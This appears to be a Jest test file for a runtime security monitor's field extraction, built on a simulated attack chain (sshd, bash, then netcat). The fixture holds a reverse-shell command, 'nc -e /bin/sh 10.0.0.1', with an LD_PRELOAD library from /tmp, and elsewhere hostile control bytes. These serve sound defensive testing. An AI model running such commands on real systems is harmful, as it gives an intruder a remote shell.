import { expect, test } from '@jest/globals'
import type { RecordSource } from '../events/encode.ts'
import { BOOTED_NS, eventFrom, testState, valueOf } from './testing.ts'

const id = '3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3f5d8'
const SECOND = 1_000_000_000n

const sshd: RecordSource = {
  event: 'execve',
  pid: 100,
  startTimeNs: 10n * SECOND,
  timeNs: 10n * SECOND,
  parameters: {
    res: 0,
    comm: 'sshd',
    exe: 'sshd: root',
    trusted_exepath: '/usr/sbin/sshd',
    args: ['-D'],
    env: ['LANG=C', 'SECRET=1'],
    sid: 100,
    pgid: 100,
    vpid: 100,
    vpgid: 100,
  },
}
const bash: RecordSource = {
  event: 'execve',
  pid: 200,
  parentPid: 100,
  startTimeNs: 20n * SECOND,
  timeNs: 20n * SECOND,
  parameters: {
    res: 0,
    comm: 'bash',
    exe: '-bash',
    trusted_exepath: '/usr/bin/bash',
    args: [],
    sid: 200,
    pgid: 200,
    vpid: 200,
    vpgid: 200,
  },
}
const nc: RecordSource = {
  event: 'execve',
  pid: 300,
  parentPid: 200,
  userId: 1000,
  startTimeNs: 30n * SECOND,
  timeNs: 31n * SECOND,
  parameters: {
    res: 0,
    comm: 'nc',
    exe: './nc',
    trusted_exepath: '/tmp/nc',
    args: ['-e', '/bin/sh', '10.0.0.1'],
    env: ['HOME=/root', 'LD_PRELOAD=/tmp/x.so'],
    cwd: '/tmp',
    tty: 34816,
    cgroups: [`/system.slice/docker-${id}.scope`],
    sid: 200,
    pgid: 300,
    vpid: 7,
    vpgid: 7,
    loginuid: 1000,
    gid: 50,
    flags: 1 | 4,
    exe_ino: 4711,
    exe_ino_ctime: BOOTED_NS + 29n * SECOND,
    exe_ino_mtime: BOOTED_NS + 28n * SECOND,
    pidns_init_start_ts: 5n * SECOND,
    cap_inheritable: 0n,
    cap_permitted: (1n << 21n) | 1n,
    cap_effective: 1n << 21n,
    fdlimit: 1024,
    pgft_maj: 3,
    pgft_min: 99,
    vm_size: 2000,
    vm_rss: 1000,
    vm_swap: 0,
  },
}

const event = eventFrom(testState(), sshd, bash, nc)

test.each([
  ['proc.name', 'nc'],
  ['proc.pname', 'bash'],
  ['proc.aname[0]', 'nc'],
  ['proc.aname[2]', 'sshd'],
  ['proc.aname[3]', undefined],
  ['proc.aname', ['bash', 'sshd']],
  ['proc.exe', './nc'],
  ['proc.pexe', '-bash'],
  ['proc.aexe[2]', 'sshd: root'],
  ['proc.aexe', ['-bash', 'sshd: root']],
  ['proc.exepath', '/tmp/nc'],
  ['proc.pexepath', '/usr/bin/bash'],
  ['proc.aexepath[2]', '/usr/sbin/sshd'],
  ['proc.aexepath', ['/usr/bin/bash', '/usr/sbin/sshd']],
  ['proc.cmdline', 'nc -e /bin/sh 10.0.0.1'],
  ['proc.pcmdline', 'bash'],
  ['proc.acmdline[2]', 'sshd -D'],
  ['proc.acmdline', ['bash', 'sshd -D']],
  ['proc.args', '-e /bin/sh 10.0.0.1'],
  ['proc.args[1]', '/bin/sh'],
  ['proc.args[9]', ''],
  ['proc.aargs', ' -D'],
  ['proc.aargs[2]', '-D'],
  ['proc.cmdnargs', 3],
  ['proc.cmdlenargs', 17],
  ['proc.exeline', './nc -e /bin/sh 10.0.0.1'],
  ['proc.env', 'HOME=/root LD_PRELOAD=/tmp/x.so'],
  ['proc.env[LD_PRELOAD]', '/tmp/x.so'],
  ['proc.env[LD_PRE]', ''],
  ['proc.aenv[SECRET]', '1'],
  ['proc.aenv[2]', 'LANG=C SECRET=1'],
  ['proc.aenv', 'HOME=/root LD_PRELOAD=/tmp/x.so'],
  ['proc.cwd', '/tmp'],
  ['proc.tty', 34816],
  ['proc.loginshellid', 200],
  ['proc.pid', 300],
  ['proc.ppid', 200],
  ['proc.apid[2]', 100],
  ['proc.apid', [200, 100]],
  ['proc.vpid', 7],
  ['proc.pvpid', 200],
  ['proc.duration', SECOND],
  ['proc.ppid.duration', 11n * SECOND],
  ['proc.pid.ts', BOOTED_NS + 30n * SECOND],
  ['proc.ppid.ts', BOOTED_NS + 20n * SECOND],
  ['proc.is_exe_writable', true],
  ['proc.is_exe_upper_layer', false],
  ['proc.is_exe_lower_layer', false],
  ['proc.is_exe_from_memfd', true],
  ['proc.exe_ino', 4711],
  ['proc.exe_ino.ctime', BOOTED_NS + 29n * SECOND],
  ['proc.exe_ino.mtime', BOOTED_NS + 28n * SECOND],
  ['proc.exe_ino.ctime_duration_proc_start', SECOND],
  ['proc.exe_ino.ctime_duration_pidns_start', 24n * SECOND],
  ['proc.pidns_init_start_ts', BOOTED_NS + 5n * SECOND],
  ['proc.fdlimit', 1024],
  ['proc.vmsize', 2000],
  ['proc.vmrss', 1000],
  ['proc.vmswap', 0],
  ['proc.sid', 200],
  ['proc.sname', 'bash'],
  ['proc.sid.exe', '-bash'],
  ['proc.sid.exepath', '/usr/bin/bash'],
  ['proc.pgid', 300],
  ['proc.pgid.name', 'nc'],
  ['proc.pgid.exe', './nc'],
  ['proc.pgid.exepath', '/tmp/nc'],
  ['proc.vpgid', 7],
  ['proc.vpgid.name', 'nc'],
  ['proc.vpgid.exe', './nc'],
  ['proc.vpgid.exepath', '/tmp/nc'],
  ['proc.is_sid_leader', false],
  ['proc.is_pgid_leader', true],
  ['proc.is_vpgid_leader', true],
  ['proc.depth', 2],
  ['proc.is_orphan', false],
  ['thread.tid', 300],
  ['thread.ismain', true],
  ['thread.vtid', 7],
  ['thread.cap_permitted', 'CAP_CHOWN CAP_SYS_ADMIN'],
  ['thread.cap_inheritable', ''],
  ['thread.cap_effective', 'CAP_SYS_ADMIN'],
  ['thread.pfmajor', 3],
  ['thread.pfminor', 99],
  ['thread.cgroups', `/system.slice/docker-${id}.scope`],
  ['thread.cgroup[memory]', `/system.slice/docker-${id}.scope`],
  ['thread.vmsize', 2000],
  ['thread.vmrss', 1000],
  ['container.id', '3ad7b26ded6d'],
  ['container.full_id', id],
  ['container.name', undefined],
  ['user.loginuid', 1000],
  ['group.gid', 50],
])('%s of an exec is %j', (field, expected) => {
  expect(valueOf(event, field)).toEqual(expected)
})

test('a field of an unknown process is missing, but its pid and user are in the record', () => {
  const lost = eventFrom(testState(), { event: 'setsid', pid: 9, userId: 33, parentPid: 4 })
  expect(valueOf(lost, 'proc.name')).toBeUndefined()
  expect(valueOf(lost, 'proc.cmdline')).toBeUndefined()
  expect(valueOf(lost, 'proc.aname')).toBeUndefined()
  expect(valueOf(lost, 'container.id')).toBeUndefined()
  expect([valueOf(lost, 'proc.pid'), valueOf(lost, 'proc.ppid')]).toEqual([9, 4])
  expect(valueOf(lost, 'user.uid')).toBe(33)
})

test('a process on the host is in the container named host', () => {
  const onHost = eventFrom(testState(), {
    ...sshd,
    parameters: { ...sshd.parameters, cgroups: ['/system.slice/ssh.service'] },
  })
  expect(valueOf(onHost, 'container.id')).toBe('host')
  expect(valueOf(onHost, 'container.name')).toBe('host')
})

test('hostile bytes in names and arguments stay what they are', () => {
  const hostile = eventFrom(testState(), {
    ...nc,
    parameters: {
      res: 0,
      comm: Uint8Array.of(0xff, 0x0a, 0x1b),
      args: new TextEncoder().encode('%proc.name\0{"a":1}\0\u202e'),
    },
  })
  expect(valueOf(hostile, 'proc.name')).toBe('\udcff\n\u001b')
  expect(valueOf(hostile, 'proc.cmdline')).toBe('\udcff\n\u001b %proc.name {"a":1} \u202e')
})

test('what was cut is told', () => {
  const cut = eventFrom(testState(), {
    ...nc,
    parameters: { res: 0, comm: 'nc', args: { cut: 'a'.repeat(4096) } },
  })
  expect(valueOf(cut, 'evt.is_truncated')).toBe(true)
  expect(valueOf(cut, 'evt.truncated')).toEqual(['args'])
  expect(valueOf(event, 'evt.is_truncated')).toBe(false)
  expect(valueOf(event, 'evt.truncated')).toBeUndefined()
})
